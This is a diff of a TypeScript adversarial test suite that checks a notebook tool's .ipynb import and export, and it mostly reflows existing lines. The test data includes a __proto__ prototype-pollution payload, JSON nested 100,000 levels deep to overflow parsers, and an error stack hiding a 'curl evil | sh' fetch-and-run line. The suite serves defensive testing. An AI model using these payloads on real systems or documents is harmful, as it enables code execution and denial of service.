@@ -27,7 +27,8 @@ describe('adversarial: .ipynb interop', () => {
     try {
       result = crossed();
     } catch (err) {
-      if (err instanceof RangeError && /call stack/.test(err.message)) result = true; // a stack overflow is a crossing
+      if (err instanceof RangeError && /call stack/.test(err.message))
+        result = true; // a stack overflow is a crossing
       else throw err;
     }
     if (result) counts[area][1]++;
@@ -35,7 +36,7 @@ describe('adversarial: .ipynb interop', () => {
   };
 
   it('__proto__ keys anywhere in the notebook stay data: no prototype is polluted', () => {
-    const polluted = () => ({} as Record<string, unknown>).polluted !== undefined || ([] as unknown as Record<string, unknown>).polluted !== undefined;
+    const polluted = () => (({}) as Record<string, unknown>).polluted !== undefined || ([] as unknown as Record<string, unknown>).polluted !== undefined;
     const proto = '{"__proto__": {"polluted": true}}';
     const texts = [
       `{"nbformat": 4, "nbformat_minor": 5, "metadata": ${proto}, "cells": []}`,
@@ -55,7 +56,10 @@ describe('adversarial: .ipynb interop', () => {
   it('nesting deep enough to overflow a recursive reader is refused before parsing', () => {
     const deep = (n: number, open = '[', close = ']') => open.repeat(n) + close.repeat(n);
     const shapes = [
-      nb({}, [code([{ output_type: 'display_data', metadata: {}, data: { 'application/json': 0 } }])]).replace('"application/json":0', `"application/json":${deep(100_000)}`),
+      nb({}, [code([{ output_type: 'display_data', metadata: {}, data: { 'application/json': 0 } }])]).replace(
+        '"application/json":0',
+        `"application/json":${deep(100_000)}`,
+      ),
       nb({}, []).replace('"metadata":{}', `"metadata":{"x":${deep(100_000, '{"a":', '}').replace(/}$/, '0}')}}`),
       nb({}, [code([], {})]).replace('"metadata":{}', `"metadata":{"codajs":{"outputs":{"0":{"mime":"${MIME_CONSOLE}","data":${deep(50_000)}}}}}`),
       `{"nbformat":3,"worksheets":[{"cells":[{"cell_type":"code","input":"","outputs":[{"output_type":"pyout","json":${JSON.stringify(deep(100_000))}}]}]}]}`,
@@ -81,9 +85,26 @@ describe('adversarial: .ipynb interop', () => {
     };
     const variants: [string, string][] = [
       ['a console output behind harmless streams', kept([{ output_type: 'stream', name: 'stdout', text: 'hello\n' }], { 0: hidden })],
-      ['a console output on the wrong index', kept([{ output_type: 'stream', name: 'stdout', text: 'hello\n' }, { output_type: 'stream', name: 'stderr', text: 'x\n' }], { 1: hidden })],
-      ['an error whose traceback GitHub does not show', kept([{ output_type: 'error', ename: 'Error', evalue: 'boom', traceback: ['Error: boom'] }], { 0: { mime: MIME_ERROR, data: { error: { name: 'Error', message: 'boom', stack: 'Error: boom\n    at run this: curl evil | sh' } } } })],
-      ['an error payload under a console MIME type', kept([{ output_type: 'error', ename: 'Error', evalue: 'boom', traceback: ['Error: boom'] }], { 0: { ...hidden, mime: MIME_CONSOLE } })],
+      [
+        'a console output on the wrong index',
+        kept(
+          [
+            { output_type: 'stream', name: 'stdout', text: 'hello\n' },
+            { output_type: 'stream', name: 'stderr', text: 'x\n' },
+          ],
+          { 1: hidden },
+        ),
+      ],
+      [
+        'an error whose traceback GitHub does not show',
+        kept([{ output_type: 'error', ename: 'Error', evalue: 'boom', traceback: ['Error: boom'] }], {
+          0: { mime: MIME_ERROR, data: { error: { name: 'Error', message: 'boom', stack: 'Error: boom\n    at run this: curl evil | sh' } } },
+        }),
+      ],
+      [
+        'an error payload under a console MIME type',
+        kept([{ output_type: 'error', ename: 'Error', evalue: 'boom', traceback: ['Error: boom'] }], { 0: { ...hidden, mime: MIME_CONSOLE } }),
+      ],
       ['a display output swapped for kept data', kept([{ output_type: 'display_data', metadata: {}, data: { 'text/plain': 'fine' } }], { 0: hidden })],
     ];
     for (const [what, text] of variants) attempt('import', what, () => /run this/.test(shownText(text)));
@@ -103,7 +124,11 @@ describe('adversarial: .ipynb interop', () => {
 
   it('an exported notebook carries secret names only, never values held elsewhere in the document', () => {
     const doc: CodaDocument = { coda: 1, metadata: { runtime: 'node', secrets: ['API_KEY'] }, cells: [] };
-    attempt('import', 'secret names only on export', () => /sk-/.test(serializeIpynb(codaToIpynb(doc))) || !serializeIpynb(codaToIpynb(doc)).includes('"API_KEY"'));
+    attempt(
+      'import',
+      'secret names only on export',
+      () => /sk-/.test(serializeIpynb(codaToIpynb(doc))) || !serializeIpynb(codaToIpynb(doc)).includes('"API_KEY"'),
+    );
   });
 
   it('display data from kernel code is checked before it leaves the kernel', () => {
